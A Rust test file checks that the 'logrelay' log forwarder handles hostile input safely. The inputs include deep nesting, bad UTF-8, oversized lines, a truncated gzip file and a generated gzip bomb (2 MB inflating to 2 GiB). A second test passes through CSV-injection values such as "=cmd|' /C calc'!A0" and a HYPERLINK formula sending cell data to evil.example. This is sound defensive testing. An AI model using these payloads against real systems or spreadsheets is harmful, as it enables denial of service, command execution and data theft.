//! Hostile input: deep nesting, bad UTF-8, non-objects, oversized rows and fields, a 256 MiB
//! line, a gzip bomb, a truncated gzip file, formula-looking values.

use std::fs::File;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

use azmon_emulator::{Emulator, EmulatorConfig};
use flate2::write::GzEncoder;
use flate2::Compression;
use serde_json::{json, Value};

use crate::common;
use crate::harness::*;

/// One hostile input and what must happen to it.
struct Hostile {
    id: &'static str,
    what: &'static str,
    /// A file in the run directory (`-` for stdin).
    input: &'static str,
    stdin: Stdin,
    extra_env: Vec<(&'static str, &'static str)>,
    /// Records in the input (known from how it was made).
    records: u64,
    delivered: u64,
    dead_lettered: u64,
    /// Every dead-letter reason contains all of these.
    reason: &'static [&'static str],
}

fn hostile_fixture(name: &str) -> PathBuf {
    common::repo().join("tests/fixtures/hostile").join(name)
}

/// Writes a gzip bomb: a JSON array of two events, then `gib` GiB of whitespace between
/// elements, then a last event. Multi-member gzip of one compressed MiB repeated, so the file
/// is ~2 MB and is written in milliseconds, yet inflates to > `gib` GiB of valid JSON.
fn write_gzip_bomb(path: &Path, gib: usize) {
    let member = |bytes: &[u8]| {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(bytes).expect("in memory");
        encoder.finish().expect("in memory")
    };
    let mut file = std::io::BufWriter::new(File::create(path).expect("bomb file"));
    let head = format!(
        "[{},{},",
        keeper_line(1, json!({})).trim_end(),
        keeper_line(2, json!({})).trim_end()
    );
    file.write_all(&member(head.as_bytes()))
        .expect("generated input written");
    let spaces = member(&vec![b' '; 1 << 20]);
    for _ in 0..(gib << 10) {
        file.write_all(&spaces).expect("generated input written");
    }
    let last = format!("{}]", keeper_line(3, json!({})).trim_end());
    file.write_all(&member(last.as_bytes()))
        .expect("generated input written");
    file.flush().expect("generated input written");
}

/// A 256 MiB string field on line 2 of 3, streamed to stdin.
fn huge_line_stream(writer: &mut dyn Write) -> std::io::Result<()> {
    writer.write_all(keeper_line(1, json!({})).as_bytes())?;
    writer.write_all(b"{\"audit_event\":\"login\",\"data\":{\"note\":\"")?;
    let chunk = vec![b'x'; 1 << 20];
    for _ in 0..256 {
        writer.write_all(&chunk)?;
    }
    writer.write_all(b"\"}}\n")?;
    writer.write_all(keeper_line(3, json!({})).as_bytes())
}

/// Newline-terminated lines a gzip decoder recovers from `gzip` before it fails (std's
/// `read_to_end` keeps what was read before an error).
fn complete_lines_before_the_cut(gzip: &[u8]) -> u64 {
    let mut out = Vec::new();
    let _ = flate2::read::MultiGzDecoder::new(gzip).read_to_end(&mut out);
    out.iter().filter(|byte| **byte == b'\n').count() as u64
}

/// Copies every fixture and writes the generated inputs into `dir`; returns the cases.
fn hostile_cases(dir: &Path) -> Vec<Hostile> {
    for name in [
        "deep-nesting.ndjson",
        "deep-nesting.json",
        "invalid-utf8.ndjson",
        "invalid-utf8.csv",
        "non-object.ndjson",
        "csv-injection.ndjson",
        "csv-injection.csv",
    ] {
        std::fs::copy(hostile_fixture(name), dir.join(name)).expect("fixture copied");
    }
    // A row over the 1 MB request limit: 20 fields of 60,000 characters (each under 64 KB).
    let fields: serde_json::Map<String, Value> = (0..20)
        .map(|i| (format!("field{i}"), Value::String(noise(60_000, i))))
        .collect();
    std::fs::write(
        dir.join("oversized-row.ndjson"),
        keeper_line(1, Value::Object(fields)) + &keeper_line(2, json!({})),
    )
    .expect("generated input written");
    // One 200,000-character field: truncated to 64 KB and delivered.
    std::fs::write(
        dir.join("huge-field.ndjson"),
        keeper_line(1, json!({"note": noise(200_000, 99)})),
    )
    .expect("generated input written");
    write_gzip_bomb(&dir.join("bomb.json.gz"), 2);
    // A gzip file cut in the middle of its stream.
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    for i in 0..2_000 {
        encoder
            .write_all(keeper_line(i, json!({"note": noise(100, i)})).as_bytes())
            .expect("generated input written");
    }
    let whole = encoder.finish().expect("generated input written");
    let cut = &whole[..whole.len() / 2];
    std::fs::write(dir.join("truncated.ndjson.gz"), cut).expect("generated input written");
    // Counted from the file as written, independently of logrelay: the complete lines a gzip
    // decoder recovers before the cut are events; the cut line and everything after it are
    // one unreadable rest.
    let readable = complete_lines_before_the_cut(cut);
    assert!(
        readable > 0 && readable < 2_000,
        "the cut falls inside the events: {readable}"
    );

    vec![
        Hostile {
            id: "40-hostile-deep-nesting-ndjson",
            what: "20,000 levels of nested arrays inside an event (NDJSON)",
            input: "deep-nesting.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["deep-nesting.ndjson: line 2", "recursion limit"],
        },
        Hostile {
            id: "41-hostile-deep-nesting-array",
            what: "20,000 levels of nested arrays inside an element of a JSON array",
            input: "deep-nesting.json",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["deep-nesting.json: record 2", "recursion limit"],
        },
        Hostile {
            id: "42-hostile-invalid-utf8-ndjson",
            what: "invalid UTF-8 bytes inside a string value",
            input: "invalid-utf8.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["invalid-utf8.ndjson: line 2", "UTF-8"],
        },
        Hostile {
            id: "43-hostile-invalid-utf8-csv",
            what: "invalid UTF-8 bytes in a CSV cell",
            input: "invalid-utf8.csv",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["invalid-utf8.csv: line 3", "UTF-8"],
        },
        Hostile {
            id: "44-hostile-non-object",
            what: "JSON lines that are numbers, strings, null, booleans, arrays",
            input: "non-object.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 6,
            delivered: 1,
            dead_lettered: 5,
            reason: &["non-object.ndjson: line", "is not an event object"],
        },
        Hostile {
            id: "45-hostile-oversized-row",
            what:
                "one event of 1.2 MB (twenty 60,000-character fields), over the 1 MB request limit",
            input: "oversized-row.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 2,
            delivered: 1,
            dead_lettered: 1,
            reason: &["a request body holds at most", "shorten its fields"],
        },
        Hostile {
            id: "46-hostile-huge-field",
            what: "one 200,000-character field (Azure keeps 64 KB)",
            input: "huge-field.ndjson",
            stdin: Stdin::Null,
            extra_env: vec![],
            records: 1,
            delivered: 1,
            dead_lettered: 0,
            reason: &[],
        },
        Hostile {
            id: "47-hostile-huge-line-stdin",
            what: "a 256 MiB line between two good ones, streamed on stdin",
            input: "-",
            stdin: Stdin::Stream(Box::new(huge_line_stream)),
            extra_env: vec![],
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["stdin: line 2", "exceeds"],
        },
        Hostile {
            id: "48-hostile-gzip-bomb",
            what:
                "gzip bomb: 2 MB file inflating to 2 GiB (LOGRELAY_MAX_DECOMPRESSED_BYTES=16 MiB)",
            input: "bomb.json.gz",
            stdin: Stdin::Null,
            extra_env: vec![("LOGRELAY_MAX_DECOMPRESSED_BYTES", "16777216")],
            // Two events, then the guard stops decoding: one entry says why.
            records: 3,
            delivered: 2,
            dead_lettered: 1,
            reason: &["16777216 bytes", "LOGRELAY_MAX_DECOMPRESSED_BYTES"],
        },
        Hostile {
            id: "49-hostile-truncated-gzip",
            what: "a gzip file cut in half",
            input: "truncated.ndjson.gz",
            stdin: Stdin::Null,
            extra_env: vec![],
            // Every complete line before the cut is delivered; one entry stands for the rest.
            records: readable + 1,
            delivered: readable,
            dead_lettered: 1,
            reason: &["corrupt or truncated"],
        },
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_input_gets_a_clear_reason_bounded_memory_and_no_panic() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut failures = Vec::new();
    for case in hostile_cases(dir.path()) {
        emulator.reset();
        let dl = format!("dl-{}", case.id);
        let mut extra = vec![("RUST_LOG", "info")];
        extra.extend(case.extra_env.iter().copied());
        let run = logrelay(
            &["send", "--json", "--dead-letter", &dl, case.input],
            env_with(&emulator, &extra),
            dir.path(),
            case.stdin,
        )
        .await;
        let entries = dead_letters(&dir.path().join(&dl));
        let rows = emulator.rows();
        let report: Value = serde_json::from_str(&run.stdout).unwrap_or(Value::Null);
        let events_in = report["events_in"].as_u64().unwrap_or(0);
        let delivered = report["delivered"].as_u64().unwrap_or(0);
        let dead_lettered = report["dead_lettered"].as_u64().unwrap_or(0);
        let records = case.records;
        let lost = records.saturating_sub(rows.len() as u64 + entries.len() as u64);
        record(&Outcome {
            id: case.id,
            scenario: case.what,
            path: "logrelay send",
            injected: case.input,
            events_in: records,
            delivered: rows.len() as u64,
            dead_lettered: entries.len() as u64,
            duplicated: 0,
            lost,
            notes: format!(
                "peak RSS {}, {:.1} s; reason: {}",
                mib(run.peak_rss_kb),
                run.elapsed.as_secs_f64(),
                entries
                    .first()
                    .and_then(|entry| entry["reason"].as_str())
                    .map(|reason| reason.replace(&dir.path().display().to_string(), "."))
                    .unwrap_or_else(|| "none (delivered)".into())
            ),
        });

        let mut check = |ok: bool, what: String| {
            if !ok {
                failures.push(format!("{}: {what}\n{}", case.id, tail(&run.all_output())));
            }
        };
        check(
            !run.all_output().contains("panicked"),
            "the binary panicked".into(),
        );
        check(lost == 0, format!("{lost} events lost"));
        check(
            run.peak_rss_kb <= HOSTILE_PEAK_RSS_KB,
            format!(
                "peak RSS {} KiB over {HOSTILE_PEAK_RSS_KB}",
                run.peak_rss_kb
            ),
        );
        check(
            run.code == if case.dead_lettered == 0 { 0 } else { 1 },
            format!("exit code {}", run.code),
        );
        check(
            events_in == delivered + dead_lettered && events_in == records,
            format!("report does not balance with {records} records: {report}"),
        );
        check(
            rows.len() as u64 == delivered && entries.len() as u64 == dead_lettered,
            format!(
                "{} rows and {} dead letters vs report {report}",
                rows.len(),
                entries.len()
            ),
        );
        check(
            delivered == case.delivered && dead_lettered == case.dead_lettered,
            format!(
                "expected {} delivered, {} dead-lettered: {report}",
                case.delivered, case.dead_lettered
            ),
        );
        for entry in &entries {
            let reason = entry["reason"].as_str().unwrap_or_default();
            check(
                case.reason.iter().all(|part| reason.contains(part)),
                format!("reason {reason:?} lacks {:?}", case.reason),
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_looking_values_are_forwarded_as_data_unchanged() {
    let emulator = Emulator::start(EmulatorConfig::default()).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    for name in ["csv-injection.ndjson", "csv-injection.csv"] {
        std::fs::copy(hostile_fixture(name), dir.path().join(name)).unwrap();
    }

    let run = logrelay(
        &[
            "send",
            "--json",
            "csv-injection.ndjson",
            "csv-injection.csv",
        ],
        emulator.env(),
        dir.path(),
        Stdin::Null,
    )
    .await;

    assert_eq!(run.code, 0, "{}", run.all_output());
    let rows = emulator.rows();
    assert_eq!(rows.len(), 5);
    let has = |column: &str, value: &str| rows.iter().any(|row| row[column] == value);
    // From the NDJSON file: the strings exactly as Keeper sent them.
    assert!(has("username", "=cmd|' /C calc'!A0"));
    assert!(has("client_version", "+SUM(1+1)*cmd|' /C calc'!A0"));
    assert!(has("remote_address", "-2+3+cmd|' /C calc'!A0"));
    assert!(rows
        .iter()
        .any(|row| row["data"]["note"] == "@SUM(1+1)*cmd|' /C calc'!A0"
            && row["data"]["record_title"]
                == "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"));
    // From the CSV export: quoted cells unquoted, nothing escaped or prefixed.
    assert_eq!(
        rows.iter()
            .filter(|row| row["username"] == "=cmd|' /C calc'!A0")
            .count(),
        2
    );
    let stats = emulator.stats();
    assert_eq!(stats.type_mismatches, 0, "{stats:?}");
    assert_eq!(stats.truncated_fields, 0, "{stats:?}");
}
